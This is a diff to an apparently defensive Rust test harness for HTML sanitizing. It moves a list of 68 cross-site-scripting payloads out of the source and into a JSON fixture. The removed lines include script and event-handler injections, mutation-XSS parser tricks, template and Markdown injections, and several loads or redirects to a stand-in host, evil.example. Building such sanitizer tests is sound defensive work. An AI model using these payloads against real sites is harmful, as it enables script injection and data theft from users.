@@ -105,76 +105,7 @@ const RUNNING: [&str; 3] = ["<script>CALL</script>", "<img src=x onerror=CALL>",
 
 /// Whole texts that fit no table: markup that is other markup after another parse, things that load or lead away,
 /// names that shadow the page's own, template languages, Markdown.
-const WHOLE: [&str; 68] = [
-    "<script>CALL</script>",
-    "<SCRIPT type=module>CALL</SCRIPT>",
-    "<script\n>CALL</script\n>",
-    "<scr<script>ipt>CALL</scr</script>ipt>",
-    "<script src=\"data:text/javascript,CALL\"></script>",
-    "<script src=//evil.example/s.js></script>",
-    "\u{feff}<script>CALL</script>",
-    "<svg><script>CALL</script></svg>",
-    "<svg><script href=\"data:text/javascript,CALL\" /></svg>",
-    "<math><script>CALL</script></math>",
-    "&lt;script&gt;CALL&lt;/script&gt;",
-    "&#60;img src=x onerror=CALL&#62;",
-    "\\u003cscript\\u003eCALL\\u003c/script\\u003e",
-    "\u{ff1c}script\u{ff1e}CALL\u{ff1c}/script\u{ff1e}",
-    "+ADw-script+AD4-CALL+ADw-/script+AD4-",
-    "<svg><animate onbegin=CALL attributeName=x dur=1s>",
-    "<svg><set attributeName=href to=\"javascript:CALL\" /></svg>",
-    "<svg><use href=\"data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=CALL></svg>#x\" /></svg>",
-    "<svg><foreignObject><body onload=CALL></foreignObject></svg>",
-    "<math href=\"javascript:CALL\">x</math>",
-    "<noscript><p title=\"</noscript><img src=x onerror=CALL>\">",
-    "<svg></p><style><a title=\"</style><img src onerror=CALL>\">",
-    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src onerror=CALL&gt;\">",
-    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img onerror=CALL src>\">",
-    "<math><annotation-xml encoding=\"text/html\"><style><img src onerror=CALL></style></annotation-xml></math>",
-    "<svg><desc><![CDATA[</desc><img src onerror=CALL>]]></svg>",
-    "<table><caption><svg><title><style></title><img src onerror=CALL></style>",
-    "<p title=\"</p><img src=x onerror=CALL>\">",
-    "<plaintext><img src=x onerror=CALL>",
-    "<xmp><p title=\"</xmp><img src onerror=CALL>\">",
-    "<textarea><img title=\"</textarea><img src onerror=CALL>\">",
-    "<select><style></select><img src onerror=CALL></style></select>",
-    "<![CDATA[><img src=x onerror=CALL>]]>",
-    "<?php ?><img src=x onerror=CALL>",
-    "<!DOCTYPE x [<!ENTITY y '<script>CALL</script>'>]>&y;",
-    "<!--><img src onerror=CALL>-->",
-    "<!--[if true]><script>CALL</script><![endif]-->",
-    "<iframe srcdoc=\"<script>parent.CALL</script>\"></iframe>",
-    "<iframe src=\"javascript:parent.CALL\"></iframe>",
-    "<object data=\"javascript:CALL\"></object>",
-    "<embed src=//evil.example/e.swf>",
-    "<meta http-equiv=refresh content=\"0;url=//evil.example/\">",
-    "<meta http-equiv=refresh content=\"0;url=javascript:CALL\">",
-    "<base href=\"//evil.example/\">",
-    "<link rel=stylesheet href=//evil.example/c.css>",
-    "<link rel=prefetch href=//evil.example/p>",
-    "<style>@import '//evil.example/c.css';</style>",
-    "<div style=\"background:url(//evil.example/b.png)\">x</div>",
-    "<img src=//evil.example/i.png>",
-    "![x](//evil.example/m.png)",
-    "<picture><source srcset=//evil.example/s.png><img></picture>",
-    "<video poster=//evil.example/v.png></video>",
-    "<table background=//evil.example/t.png><tr><td>x</table>",
-    "<form action=\"javascript:CALL\"><button>x</button></form>",
-    "<button formaction=\"javascript:CALL\">x</button>",
-    "<form action=//evil.example/><input type=submit></form>",
-    "<a ping=//evil.example/ping href=#>x</a>",
-    "<a id=trip name=trip href=//evil.example/>x</a>",
-    "<img name=currentScript><form name=document></form>",
-    "<span id=page.main></span><a id=page.quick data-worker=//evil.example/w.js>x</a>",
-    "{{ CALL }} {% include \"base.html\" %} ${CALL} #{CALL} <%= CALL %>",
-    "{{ page.title | safe }}<img src=x onerror=CALL>",
-    "```x\" onclick=\"CALL\ny\n```",
-    "```html\n</code></pre><img src=x onerror=CALL>\n```",
-    "[^\"><img src=x onerror=CALL>]\n\n[^\"><img src=x onerror=CALL>]: <svg/onload=CALL>",
-    "> [!NOTE]\"><img src=x onerror=CALL>\n> x",
-    "| <img src=x onerror=CALL> | b |\n|---|---|\n| <svg/onload=CALL> | [x](javascript:CALL) |",
-    "## x\" onclick=\"CALL\" y=\"\n\n# <img src=x onerror=CALL>",
-];
+const WHOLE: &str = include_str!("../fixtures/payloads.json");
 
 /// All of them; the place of a text is its number.
 pub fn payloads() -> Vec<String> {
@@ -194,7 +125,7 @@ pub fn payloads() -> Vec<String> {
         texts.push(format!("{way}{}", RUNNING[at % 3]));
         texts.push(format!("x{way} {}", RUNNING[(at + 1) % 3]));
     }
-    texts.extend(WHOLE.map(String::from));
+    texts.extend(serde_json::from_str::<Vec<String>>(WHOLE).unwrap());
     let numbered =
         |(n, text): (usize, String)| text.replace("CALL", &format!("trip({n})")).replace("NUMBER", &n.to_string());
     texts.into_iter().enumerate().map(numbered).collect()
